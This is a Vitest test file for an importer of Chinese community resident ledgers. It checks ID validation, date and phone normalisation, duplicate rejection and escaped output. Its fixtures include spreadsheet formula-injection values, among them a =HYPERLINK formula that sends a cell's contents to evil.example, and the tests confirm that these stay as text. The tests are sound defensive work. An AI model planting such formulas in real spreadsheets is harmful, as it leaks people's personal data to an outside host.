import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import {
  birthDateAgrees,
  idTypeOf,
  ledgerFieldOfHeader,
  normalizeDate,
  relationOf,
  residenceStatusOf,
  transportOf,
} from '../../domain/ledger';
import { idCheckChar } from '../../domain/residents';
import {
  type LedgerEvent,
  type LedgerHeaderEvent,
  type LedgerOptions,
  type LedgerRejectedEvent,
  type LedgerRowEvent,
  readLedger,
  rejectedSheet,
} from './ledger';

const SAMPLES = path.resolve(import.meta.dirname, '../../../shared/data/ledgers');
const OPTS: LedgerOptions = { defaultYear: 2020, today: '2020-02-01' };

/** A resident ID with a correct check character. */
function idWith(birth: string, seq: string, area = '410105'): string {
  const first17 = `${area}${birth}${seq}`;
  return `${first17}${idCheckChar(first17)}`;
}

/** The same first 17 digits with a check character that is not the right one. */
function wrongCheck(id: string): string {
  const right = id.slice(17);
  return `${id.slice(0, 17)}${right === '0' ? '1' : '0'}`;
}

type Read = {
  header: LedgerHeaderEvent;
  rows: LedgerRowEvent[];
  rejected: LedgerRejectedEvent[];
  events: LedgerEvent[];
};

async function read(buf: Buffer, opts: LedgerOptions = OPTS): Promise<Read> {
  const events: LedgerEvent[] = [];
  for await (const e of readLedger(buf, opts)) events.push(e);
  const [header, ...rest] = events;
  if (header?.kind !== 'header') throw new Error('the first event is not the header');
  expect(rest.some((e) => e.kind === 'header')).toBe(false);
  return {
    header,
    rows: rest.filter((e): e is LedgerRowEvent => e.kind === 'row'),
    rejected: rest.filter((e): e is LedgerRejectedEvent => e.kind === 'rejected'),
    events,
  };
}

async function sheet(rows: ExcelJS.CellValue[][], setup?: (ws: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('居民信息');
  for (const r of rows) ws.addRow(r);
  setup?.(ws);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function reasonsByRow(rejected: LedgerRejectedEvent[]): Record<number, string[]> {
  return Object.fromEntries(rejected.map((r) => [r.row, r.reasons]));
}

describe('readLedger on the shared sample', () => {
  it('reads 127 rows, stores 123 and rejects the 4 the README describes', async () => {
    const buf = fs.readFileSync(path.join(SAMPLES, 'sample-ruyidonglu.xlsx'));
    const expected = JSON.parse(
      fs.readFileSync(path.join(SAMPLES, 'sample-ruyidonglu.expected.json'), 'utf8'),
    );
    const { header, rows, rejected } = await read(buf);

    expect({ rows: rows.length + rejected.length, valid: rows.length, rejected: rejected.length }).toEqual(
      expected,
    );
    expect(header.headerRow).toBe(2);
    expect(header.columns).toEqual({
      name: 2,
      sex: 3,
      idNumber: 4,
      phone: 5,
      building: 6,
      entrance: 7,
      room: 8,
      relation: 9,
      travelFrom: 10,
      returnedOn: 11,
      notes: 12,
    });
    expect(header.unmapped).toEqual([]);

    // Rows 127 and 128 also reuse the ID numbers of rows 14 and 15, so they carry that reason too.
    expect(reasonsByRow(rejected)).toEqual({
      126: ['err.idNumber.checksum'],
      127: ['ledger.missingRoom', 'ledger.duplicateInSheet'],
      128: ['err.phone.mobile', 'ledger.duplicateInSheet'],
      129: ['ledger.duplicateInSheet'],
    });
    expect(rejected.map((r) => r.duplicateOf)).toEqual([undefined, 14, 15, 16]);
    expect(rejected[0]?.values).toMatchObject({
      姓名: '错校验',
      身份证号码: '410105195609018231',
      房号: '402',
    });

    // The rejected sheet keeps the original headers, so the corrected file can be read again; the
    // repeated IDs no longer repeat once their first rows are not in the same sheet.
    const again = await read(await rejectedSheet(rejected, 'zh-CN'));
    expect(again.header.unmapped).toEqual(['原表行号', '未导入原因', '首次出现的行号']);
    expect(reasonsByRow(again.rejected)).toEqual({
      2: ['err.idNumber.checksum'],
      3: ['ledger.missingRoom'],
      4: ['err.phone.mobile'],
    });
    expect(again.rows.map((r) => r.record.name)).toEqual(['苏英']);

    const byRow = new Map(rows.map((r) => [r.row, r.record]));
    // Typed the way people type: lower-case x, spaced, full-width and +86 phones.
    expect(byRow.get(7)).toMatchObject({ idNumber: '41010520040909703X', birthDate: '2004-09-09' });
    expect(byRow.get(6)?.phone).toBe('16155125504');
    expect(byRow.get(8)?.phone).toBe('15862214400');
    expect(byRow.get(10)?.phone).toBe('16306128960');
    expect(byRow.get(4)).toEqual({
      name: '邱伟',
      idType: 'resident_id',
      idNumber: '410105195601057210',
      sex: 'male',
      birthDate: '1956-01-05',
      phone: '19845191489',
      otherPhones: [],
      building: '1号楼',
      entrance: '1单元',
      floor: 1,
      room: '101',
      relation: 'parent',
      occupation: null,
      residenceStatus: null,
      travelFrom: '黄冈',
      returnedOn: '2020-01-26',
      transport: null,
      notes: null,
    });
  });
});

const HEADER = [
  '序号',
  '姓名',
  '证件类型',
  '身份证号码',
  '性别',
  '出生年月',
  '手机号码',
  '楼栋',
  '单元',
  '房号',
  '与户主关系',
  '工作单位',
  '居住类型',
  '来郑地',
  '返郑时间',
  '交通方式',
  '备注',
  '紧急联系人',
];

/** A male resident ID whose check character is X, written lower-case the way people type it. */
function idEndingInLowerX(birth: string): string {
  for (let n = 101; n < 999; n += 2) {
    const id = idWith(birth, String(n));
    if (id.endsWith('X')) return id.toLowerCase();
  }
  throw new Error('no such ID');
}

const HEAD_ID = idEndingInLowerX('19880113');
const WIFE_ID = idWith('19900506', '224');
const HYPERLINK_NOTE = '=HYPERLINK("http://evil.example/?q="&B5,"点我")';
const HYPERLINK_NAME = '=HYPERLINK("http://evil.example","李四")';

/** A ledger as offices really keep them, good and bad rows mixed; rows named by their sheet number. */
async function mixedSheet(): Promise<Buffer> {
  const blank = () => Array<ExcelJS.CellValue>(HEADER.length).fill(null);
  const row = (fields: Partial<Record<(typeof HEADER)[number], ExcelJS.CellValue>>) => {
    const r = blank();
    for (const [k, v] of Object.entries(fields)) r[HEADER.indexOf(k)] = v;
    return r;
  };
  const base = { 楼栋: '3', 单元: '2', 房号: '1201', 与户主关系: '户主' };
  return sheet(
    [
      ['如意东路社区居民信息登记表'],
      ['填报单位：如意东路社区居委会', null, null, null, null, null, null, null, '2020年1月28日'],
      HEADER,
      // 4: lower-case x, full-width +86 phone, year-less date, formula-looking note kept as text
      row({
        序号: 1,
        姓名: '张三',
        证件类型: '居民身份证',
        身份证号码: HEAD_ID,
        性别: '男',
        出生年月: 1988.01,
        手机号码: '＋８６ １３８-１２３４-５６７８',
        ...base,
        工作单位: '郑州大学\n第一附属医院',
        居住类型: '常住',
        来郑地: '武汉',
        返郑时间: '1月25日',
        交通方式: '高铁G802',
        备注: HYPERLINK_NOTE,
        紧急联系人: '王五',
      }),
      // 5: a name that looks like a formula, room as a number cell, a date cell, two phones
      row({
        序号: 2,
        姓名: HYPERLINK_NAME,
        身份证号码: WIFE_ID,
        性别: '女',
        手机号码: '+86 139 1234 5678 / 13812340000',
        楼栋: 3,
        单元: '2',
        房号: 1201,
        与户主关系: '妻',
        居住类型: '常住',
        来郑地: '无',
        返郑时间: new Date(Date.UTC(2020, 0, 20)),
        交通方式: '自驾',
      }),
      blank(),
      // 7: wrong check character
      row({ 序号: 3, 姓名: '错校验', 身份证号码: wrongCheck(idWith('19700101', '331')), ...base }),
      // 8: 18 digits that Excel turned into a number
      row({ 序号: 4, 姓名: '数字证号', 身份证号码: Number(idWith('19700101', '351')), ...base }),
      // 9: fewer digits, still a number cell
      row({ 序号: 5, 姓名: '短数字', 身份证号码: 410105700101351, ...base }),
      // 10: no room
      row({ 序号: 6, 姓名: '缺房号', 身份证号码: idWith('19700101', '371'), 楼栋: '3', 单元: '2' }),
      HEADER, // 11: the header repeated at a page break
      // 12: the same person as row 4 (upper-case X this time), with formula-looking cells
      row({
        序号: 7,
        姓名: '重复',
        身份证号码: HEAD_ID.toUpperCase(),
        ...base,
        来郑地: '@SUM(A1)',
        备注: '+1-2',
        紧急联系人: '-3',
      }),
      // 13: the ID says female
      row({ 序号: 8, 姓名: '性别不符', 身份证号码: idWith('19700101', '382'), 性别: '男', ...base }),
      // 14: the ID says 1970
      row({ 序号: 9, 姓名: '生日不符', 身份证号码: idWith('19700101', '391'), 出生年月: '1971-01', ...base }),
      // 15: a landline
      row({ 序号: 10, 姓名: '座机', 手机号码: '0371-67891234', ...base }),
      // 16: no such day
      row({ 序号: 11, 姓名: '坏日期', 返郑时间: '2020-02-30', ...base }),
      // 17: after the import date
      row({ 序号: 12, 姓名: '未来', 返郑时间: '2020年3月1日', ...base }),
      // 18: a name longer than 50 characters
      row({ 序号: 13, 姓名: '长'.repeat(51), ...base }),
      // 19: a passport holder: sex and birth date come from their own columns
      row({
        序号: 14,
        姓名: 'John Smith',
        证件类型: '护照',
        身份证号码: 'e1234 5678',
        性别: '男',
        出生年月: '1990/5/6',
        ...base,
        与户主关系: '租户',
        居住类型: '租户',
        交通方式: '飞机',
      }),
      row({ 序号: 15 }), // 20: pre-numbered, never filled in
      ['合计', '15人'], // 21
      ['填表人：王五', null, null, null, null, null, '联系电话：13800000000'], // 22
    ],
    (ws) => ws.mergeCells('A1:R1'),
  );
}

describe('readLedger on a sheet LibreOffice wrote', () => {
  // Made once from the shared sample with Debian's libreoffice-calc-nogui:
  //   soffice --headless --convert-to xlsx:"Calc MS Excel 2007 XML" sample-ruyidonglu.xlsx
  // LibreOffice writes other XML than ExcelJS (shared strings after the sheet, numbers typed
  // differently, its own styles); the ledger must read the same.
  it('reads the same rows, records and reasons as from the ExcelJS-written original', async () => {
    const original = await read(fs.readFileSync(path.join(SAMPLES, 'sample-ruyidonglu.xlsx')));
    const libre = await read(
      fs.readFileSync(
        path.resolve(import.meta.dirname, '../test/fixtures/sample-ruyidonglu.libreoffice.xlsx'),
      ),
    );
    expect(libre.rows.length).toBe(123);
    expect(libre.header.columns).toEqual(original.header.columns);
    expect(libre.rows.map((r) => [r.row, r.record])).toEqual(original.rows.map((r) => [r.row, r.record]));
    expect(reasonsByRow(libre.rejected)).toEqual(reasonsByRow(original.rejected));
  });
});

describe('readLedger on a mixed sheet', () => {
  it('counts every resident row once, skipping titles, blanks, repeated headers, totals and footers', async () => {
    const { header, rows, rejected } = await read(await mixedSheet());
    expect(header.headerRow).toBe(3);
    expect(header.unmapped).toEqual(['紧急联系人']);
    expect(rows.map((r) => r.row)).toEqual([4, 5, 19]);
    expect(reasonsByRow(rejected)).toEqual({
      7: ['err.idNumber.checksum'],
      8: ['err.idNumber.excelNumber'],
      9: ['err.idNumber.excelNumber'],
      10: ['ledger.missingRoom'],
      12: ['ledger.duplicateInSheet'],
      13: ['err.idNumber.sexMismatch'],
      14: ['err.idNumber.birthMismatch'],
      15: ['err.phone.mobile'],
      16: ['ledger.badDate'],
      17: ['ledger.futureDate'],
      18: ['ledger.tooLong'],
    });
    expect(rejected.find((r) => r.row === 12)?.duplicateOf).toBe(4);
  });

  it('normalises what people type and keeps formula-looking text as text', async () => {
    const { rows } = await read(await mixedSheet());
    const [head, wife, guest] = rows.map((r) => r.record);
    expect(head).toEqual({
      name: '张三',
      idType: 'resident_id',
      idNumber: HEAD_ID.toUpperCase(),
      sex: 'male',
      birthDate: '1988-01-13',
      phone: '13812345678',
      otherPhones: [],
      building: '3号楼',
      entrance: '2单元',
      floor: 12,
      room: '1201',
      relation: 'head',
      occupation: '郑州大学 第一附属医院',
      residenceStatus: 'permanent',
      travelFrom: '武汉',
      returnedOn: '2020-01-25',
      transport: 'train',
      notes: HYPERLINK_NOTE,
    });
    expect(wife).toMatchObject({
      name: HYPERLINK_NAME,
      sex: 'female',
      birthDate: '1990-05-06',
      phone: '13912345678',
      otherPhones: ['13812340000'],
      building: '3号楼',
      room: '1201',
      relation: 'spouse',
      travelFrom: null,
      returnedOn: '2020-01-20',
      transport: 'car',
    });
    expect(guest).toMatchObject({
      idType: 'passport',
      idNumber: 'E12345678',
      sex: 'male',
      birthDate: '1990-05-06',
      relation: 'tenant',
      residenceStatus: 'tenant',
      transport: 'plane',
    });
  });

  it('writes the rejected rows with their own columns, reasons in words and escaped cells', async () => {
    const { rejected } = await read(await mixedSheet());
    const out = await rejectedSheet(rejected, 'zh-CN');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.read(Readable.from([out]));
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no worksheet');
    expect(ws.name).toBe('未导入的行');
    expect(ws.getRow(1).values).toEqual([undefined, '原表行号', ...HEADER, '未导入原因', '首次出现的行号']);
    expect(ws.rowCount).toBe(1 + rejected.length);

    const col = (name: string) => HEADER.indexOf(name) + 2;
    const rowOf = (sheetRow: number) => {
      for (let n = 2; n <= ws.rowCount; n++)
        if (ws.getRow(n).getCell(1).value === sheetRow) return ws.getRow(n);
      throw new Error(`row ${sheetRow} missing`);
    };
    expect([...Array(rejected.length)].map((_, i) => ws.getRow(i + 2).getCell(1).value)).toEqual(
      rejected.map((r) => r.row),
    );

    const dup = rowOf(12);
    expect(dup.getCell(col('姓名')).value).toBe('重复');
    expect(dup.getCell(col('来郑地')).value).toBe("'@SUM(A1)");
    expect(dup.getCell(col('备注')).value).toBe("'+1-2");
    expect(dup.getCell(col('紧急联系人')).value).toBe("'-3");
    expect(dup.getCell(HEADER.length + 2).value).toBe('证件号码与本表前面的一行重复');
    expect(dup.getCell(HEADER.length + 3).value).toBe(4);

    const checksum = rowOf(7);
    expect(checksum.getCell(col('身份证号码')).value).toBe(wrongCheck(idWith('19700101', '331')));
    expect(checksum.getCell(HEADER.length + 2).value).toBe('身份证号校验位错误');

    // Nothing in the output is a formula a spreadsheet would run.
    ws.eachRow((r) =>
      r.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('escapes a formula-looking name and writes reasons in English when asked', async () => {
    const buf = await sheet([
      ['姓名', '身份证号码', '楼栋', '房号', '备注'],
      [HYPERLINK_NAME, idWith('19700101', '331'), '1', '', HYPERLINK_NOTE],
    ]);
    const { rejected } = await read(buf);
    expect(rejected).toHaveLength(1);
    expect(rejected[0]?.values).toEqual({
      姓名: HYPERLINK_NAME,
      身份证号码: idWith('19700101', '331'),
      楼栋: '1',
      房号: '',
      备注: HYPERLINK_NOTE,
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.read(Readable.from([await rejectedSheet(rejected, 'en')]));
    const r = wb.worksheets[0]?.getRow(2);
    expect(r?.getCell(2).value).toBe(`'${HYPERLINK_NAME}`);
    expect(r?.getCell(6).value).toBe(`'${HYPERLINK_NOTE}`);
    expect(r?.getCell(7).value).toBe('The room number is missing');
    expect(wb.worksheets[0]?.getRow(1).getCell(7).value).toBe('Reasons');
  });
});

describe('readLedger header handling', () => {
  const unusual = [
    ['居民登记（三号院）'],
    ['住户姓名', '证件号', '手机', '楼', '房'],
    ['王六', idWith('19800202', '111'), '13700001111', '2', '301'],
    ['赵七', idWith('19800202', '111'), '13700001111', '2', '302'],
  ];
  const columns = { name: 1, idNumber: 2, phone: 3, building: 4, room: 5 };

  it('refuses a sheet whose headers it does not know, naming the columns it needs', async () => {
    const buf = await sheet(unusual);
    await expect(read(buf)).rejects.toMatchObject({
      status: 400,
      key: 'ledger.noHeader',
      fields: [{ field: 'file', key: 'ledger.noHeader' }],
    });
  });

  it('reads unusual headers through an explicit 1-based column mapping', async () => {
    const { header, rows, rejected } = await read(await sheet(unusual), { ...OPTS, columns });
    expect(header).toEqual({ kind: 'header', headerRow: 2, columns, unmapped: [] });
    expect(rows.map((r) => [r.row, r.record.name, r.record.building, r.record.room, r.record.floor])).toEqual(
      [[3, '王六', '2号楼', '301', 3]],
    );
    expect(rejected).toMatchObject([
      {
        row: 4,
        reasons: ['ledger.duplicateInSheet'],
        duplicateOf: 3,
        values: { 住户姓名: '赵七', 房: '302' },
      },
    ]);
    // The mapping decides: a column left out is not read.
    const { rows: noPhone } = await read(await sheet(unusual), {
      ...OPTS,
      columns: { name: 1, idNumber: 2, building: 4, room: 5 },
    });
    expect(noPhone[0]?.record.phone).toBeNull();
  });

  it('takes the header row from the operator, or none at all, rather than guessing', async () => {
    const headerless = unusual.slice(2);
    // Guessing would eat the first resident as a header.
    await expect(read(await sheet(headerless), { ...OPTS, columns })).rejects.toMatchObject({
      key: 'ledger.noHeader',
    });
    const none = await read(await sheet(headerless), { ...OPTS, columns, headerRow: 0 });
    expect(none.header.headerRow).toBe(0);
    expect(none.rows.length + none.rejected.length).toBe(2);
    const named = await read(await sheet(unusual), { ...OPTS, columns, headerRow: 2 });
    expect(named.rows.map((r) => r.row)).toEqual([3]);
  });

  it('refuses a mapping that reads one column twice or lacks the name', async () => {
    const buf = await sheet(unusual);
    for (const bad of [
      { ...columns, phone: 1 },
      { idNumber: 2, room: 5 },
      { ...columns, room: 0 },
    ]) {
      await expect(read(buf, { ...OPTS, columns: bad })).rejects.toMatchObject({ key: 'ledger.badColumns' });
    }
    await expect(read(buf, { ...OPTS, headerRow: 2 })).rejects.toMatchObject({ key: 'ledger.badColumns' });
  });

  it('reads a two-line header where 住址 spans 楼栋, 单元 and 房号', async () => {
    const buf = await sheet(
      [
        ['姓名', '身份证号码', '住址', null, null, '备注（选填）'],
        [null, null, '楼栋', '单元', '房号'],
        ['孙八', idWith('19650303', '515'), '7', '1', '502', '独居'],
      ],
      (ws) => {
        ws.mergeCells('C1:E1');
        ws.mergeCells('A1:A2');
      },
    );
    const { header, rows, rejected } = await read(buf);
    expect(header.columns).toEqual({ name: 1, idNumber: 2, building: 3, entrance: 4, room: 5, notes: 6 });
    expect(rejected).toEqual([]);
    expect(rows[0]?.record).toMatchObject({
      building: '7号楼',
      entrance: '1单元',
      room: '502',
      notes: '独居',
    });
  });

  it('looks for the header in the first 15 rows only', async () => {
    const late = [
      ...Array.from({ length: 15 }, (_, i) => [`说明第 ${i + 1} 行`]),
      ['姓名', '身份证号码', '房号'],
    ];
    await expect(read(await sheet(late))).rejects.toMatchObject({ key: 'ledger.noHeader' });
    const inTime = late.slice(1);
    const { header } = await read(await sheet([...inTime, ['周九', idWith('19700101', '331'), '101']]));
    expect(header.headerRow).toBe(15);
  });

  it('refuses a file that is not a workbook', async () => {
    await expect(read(Buffer.from('姓名,身份证号码\n张三,110105194912310021\n'))).rejects.toMatchObject({
      status: 415,
      key: 'import.notXlsx',
    });
  });
});

describe('normalizeDate', () => {
  it('reads the ways ledgers write a date', () => {
    for (const v of [
      '2020-01-25',
      '2020/1/25',
      '2020.1.25',
      '2020年1月25日',
      '20200125',
      '2020-01-25 08:30',
    ]) {
      expect(normalizeDate(v), v).toBe('2020-01-25');
    }
    expect(normalizeDate(new Date(Date.UTC(2020, 0, 25)))).toBe('2020-01-25');
    expect(normalizeDate(43855)).toBe('2020-01-25'); // an Excel date cell read without its format
    expect(normalizeDate(20200125)).toBe('2020-01-25');
  });

  it('uses the default year for dates written without one, and only then', () => {
    for (const v of ['1月25日', '1.25', '1-25', '1/25', 1.25]) {
      expect(normalizeDate(v, 2020), String(v)).toBe('2020-01-25');
      expect(normalizeDate(v), String(v)).toBeNull();
    }
  });

  it('refuses what it would have to guess', () => {
    for (const v of ['2020-02-30', '2020-13-01', 'soon', '1988', '1988.01', 1.1, 1988.01, 12, 0, -3]) {
      expect(normalizeDate(v, 2020), String(v)).toBeNull();
    }
  });
});

describe('birthDateAgrees', () => {
  it('compares a year-and-month cell by its month, a number 1988.1 with either January or October', () => {
    expect(birthDateAgrees('1988.01', '1988-01-13')).toBe(true);
    expect(birthDateAgrees('1988年2月', '1988-01-13')).toBe(false);
    expect(birthDateAgrees(1988.1, '1988-10-02')).toBe(true);
    expect(birthDateAgrees(1988.1, '1988-01-02')).toBe(true);
    expect(birthDateAgrees(1988.1, '1988-11-02')).toBe(false);
    expect(birthDateAgrees('1988-01-13', '1988-01-13')).toBe(true);
    expect(birthDateAgrees('1988-01-14', '1988-01-13')).toBe(false);
    expect(birthDateAgrees('不详', '1988-01-13')).toBeNull();
  });
});

describe('ledger vocabulary', () => {
  it('recognises headers with remarks and slashes, and not unknown ones', () => {
    expect(ledgerFieldOfHeader('身份证号码（必填）')).toBe('idNumber');
    expect(ledgerFieldOfHeader('* 联系 电话')).toBe('phone');
    expect(ledgerFieldOfHeader('工作单位/职业')).toBe('occupation');
    expect(ledgerFieldOfHeader('序号')).toBe('seq');
    expect(ledgerFieldOfHeader('楼栋/单元/房号')).toBeNull();
    expect(ledgerFieldOfHeader('住户姓名')).toBeNull();
  });

  it('maps the words offices write to the registry values', () => {
    expect(idTypeOf('外国人永久居留身份证')).toBe('foreign_permanent');
    expect(idTypeOf('港澳居民来往内地通行证')).toBe('hk_macao_permit');
    expect(idTypeOf('台胞证')).toBe('taiwan_permit');
    expect(idTypeOf('身份证')).toBe('resident_id');
    expect(idTypeOf('会员卡')).toBeNull();
    expect(
      [
        '户主',
        '本人',
        '妻',
        '丈夫',
        '长子',
        '女儿',
        '母亲',
        '岳父',
        '奶奶',
        '外孙女',
        '弟弟',
        '侄子',
        '租户',
        '保姆',
      ].map(relationOf),
    ).toEqual([
      'head',
      'head',
      'spouse',
      'spouse',
      'child',
      'child',
      'parent',
      'parent',
      'grandparent',
      'grandchild',
      'sibling',
      'other_relative',
      'tenant',
      'other',
    ]);
    expect(relationOf('母女')).toBeNull();
    expect(['常住', '租户', '暂住', '返郑人员'].map(residenceStatusOf)).toEqual([
      'permanent',
      'tenant',
      'temporary',
      null,
    ]);
    expect(['动车', 'G802', 'CZ3456', '私家车', '汽车', '大巴', '步行', '骑马'].map(transportOf)).toEqual([
      'train',
      'train',
      'plane',
      'car',
      'bus',
      'bus',
      'other',
      null,
    ]);
  });
});
